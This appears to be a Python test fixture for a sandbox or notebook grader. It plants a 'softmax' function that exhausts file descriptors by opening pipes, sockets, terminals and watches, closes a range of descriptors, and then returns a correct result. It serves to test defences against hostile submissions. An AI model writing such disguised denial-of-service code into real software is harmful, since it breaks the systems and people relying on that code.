"""Opens files, pipes, sockets, terminals and watches until there are none left."""

from tests.hostile.attack_tools import put

POINTS = {}

CODE = """
def softmax(z, axis=-1):
    import ctypes, os, socket

    libc = ctypes.CDLL(None)
    makers = (os.pipe, socket.socketpair, os.openpty, libc.inotify_init, lambda: libc.eventfd(0, 0),
              lambda: os.open("/dev/null", os.O_RDONLY))
    for make in makers:
        for _ in range(3000):
            try:
                make()
            except OSError:
                break
    os.closerange(100, 4096)
    e = np.exp(z - np.max(z, axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
"""


def make(nb):
    put(nb, "softmax", CODE)
